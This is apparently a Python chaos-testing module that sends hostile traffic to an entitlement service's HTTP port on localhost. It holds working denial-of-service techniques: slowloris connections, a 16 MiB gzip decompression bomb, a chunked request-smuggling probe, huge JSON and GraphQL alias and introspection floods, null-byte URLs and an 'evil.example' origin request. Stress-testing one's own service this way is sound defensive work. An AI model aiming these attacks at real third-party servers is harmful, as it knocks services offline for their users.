"""Hostile callers of the HTTP port, run as those in `attacks.py`: `python -m chaos.http_attacks ATTACK ADDRESS …`."""

import gzip
import json
import time
from collections.abc import Callable, Sequence
from typing import Final

from chaos.attacks import Attack, Connection, idle, run

SERVICE: Final = "/canuse.v1.EntitlementService/"
JSON: Final = "Content-Type: application/json\r\n"
CHECK: Final = b'{"userId": "124", "featureId": "none"}'
BATCH: Final = json.dumps({"requests": [{"userId": f"u{number}", "featureId": "none"} for number in range(1000)]})
VALUES: Final = b'{"requests": [' + b"[]," * 600_000 + b"[]]}"
MEMBERS: Final = b"{" + b",".join(b'"%x": 0' % number for number in range(60_000)) + b', "0": 0}'
FIELDS: Final = "access reason " * 4
QUERY: Final = " ".join(f'a{n}: canUseFeature(userId: "u{n}", featureId: "f") {{ {FIELDS} }}' for n in range(190))
TOKENS: Final = "{ plans(" + "a: 1 " * 2000 + ") { id } }"
BOMB: Final = gzip.compress(bytes(1 << 24))
SLOW_CONNECTIONS: Final = 200


def post(path: str, body: bytes, headers: str = JSON, size: int | None = None) -> bytes:
    """Return a request; `size`: what it says its body has."""
    length = len(body) if size is None else size
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n{headers}\r\n".encode() + body


def _slowly(attack: Attack, first: bytes) -> None:
    """Send the same on many connections, then a byte a second."""
    opened = [Connection(attack, greet=False) for _ in range(SLOW_CONNECTIONS)]
    for connection in opened:
        connection.send(first)
    while not attack.is_over:
        for connection in opened:
            if connection.send(b"x"):
                attack.add("bytes")
        time.sleep(1)
    for connection in opened:
        connection.drain()
        connection.close()


def slow_heads(attack: Attack) -> None:
    """Heads that never end."""
    _slowly(attack, b"POST / HTTP/1.1\r\nHost: local")


def slow_bodies(attack: Attack) -> None:
    """Bodies that are announced with a MiB and come at a byte a second."""
    _slowly(attack, post(f"{SERVICE}BatchCanUse", b'{"requests": [', size=1 << 20))


def _again_and_again(attack: Attack, requests: Sequence[bytes]) -> None:
    """Send requests, one after another is answered, on two connections."""

    def work() -> None:
        connection = Connection(attack, greet=False)
        while connection.is_open and not attack.is_over:
            connection.send(attack.rng.choice(requests))
            if connection.read():
                attack.add("requests")
            connection.drain()
        connection.close()

    attack.at_once(2, work)


def many_values(attack: Attack) -> None:
    """Bodies of many values, and of many fields of which one is there twice."""
    bodies = [(f"{SERVICE}BatchCanUse", VALUES), (f"{SERVICE}CanUse", MEMBERS), ("/graphql", MEMBERS[:200_000])]
    _again_and_again(attack, [post(*each) for each in (*bodies, ("/cli/validate", MEMBERS))])


def batches(attack: Attack) -> None:
    """Batches of 1000 checks."""
    _again_and_again(attack, [post(f"{SERVICE}BatchCanUse", BATCH.encode())])


def queries(attack: Attack) -> None:
    """GraphQL that is large: in aliases, in tokens, in introspection."""
    looped = "{ __schema { types { name fields { name args { name } type { name ofType { name } } } } } }"
    texts = ("{ " + QUERY + " }", TOKENS, looped)
    _again_and_again(attack, [post("/graphql", json.dumps({"query": text}).encode()) for text in texts])


def no_http(attack: Attack) -> None:
    """Garbage, smuggled requests, compressed bodies, pages of other origins."""
    both = "Transfer-Encoding: chunked\r\n"
    requests = [
        attack.rng.randbytes(2000),
        post("/", b"0\r\n\r\n", both),
        post("/graphql", BOMB, "Content-Encoding: gzip\r\n"),
        post("/graphql", CHECK, "Origin: https://evil.example\r\n"),
        b"GET /" + b"%00" * 20_000 + b" HTTP/1.1\r\nHost: localhost\r\n\r\n",
    ]
    _again_and_again(attack, requests)


def checks(attack: Attack) -> None:
    """Checks, one after another: what the port costs without an attack."""
    _again_and_again(attack, [post(f"{SERVICE}CanUse", CHECK)])


def not_read(attack: Attack) -> None:
    """The largest page, asked for often on connections that read nothing."""
    asked = b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50
    opened = [Connection(attack, greet=False, receive_bytes=4096) for _ in range(40)]
    for connection in opened:
        if connection.send(asked):
            attack.add("asked", 50)
    attack.wait()
    for connection in opened:
        connection.close()


ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (idle, slow_heads, slow_bodies, checks, many_values, batches, queries, no_http, not_read)
}


if __name__ == "__main__":
    run(ATTACKS)
